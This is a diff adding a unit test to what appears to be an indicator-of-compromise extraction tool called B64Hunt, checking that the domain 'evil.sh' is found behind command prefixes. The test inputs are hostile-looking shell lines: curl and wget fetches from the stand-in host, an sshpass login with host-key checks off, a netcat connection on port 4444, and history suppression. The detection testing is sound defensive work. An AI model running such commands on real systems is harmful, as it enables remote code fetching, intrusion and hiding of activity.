@@ -147,6 +147,16 @@ namespace B64Hunt.Tests.Iocs
             None(text, IocTypeNames.Dns, "id.key");
         }
 
+        [Theory]
+        [InlineData("sudo -u root curl -s evil.sh/x")]
+        [InlineData("sshpass -p 'secret' ssh -o StrictHostKeyChecking=no admin@evil.sh")]
+        [InlineData("timeout 10 nc evil.sh 4444")]
+        [InlineData("nohup env -u HISTFILE wget evil.sh/x &")]
+        public void PrefixesAndTheirOptionsKeepTheRealCommand(string text)
+        {
+            Single(text, IocTypeNames.Dns, "evil.sh");
+        }
+
         [Fact]
         public void CodeInsideShellAndInterpretersIsWalkedAsCommands()
         {
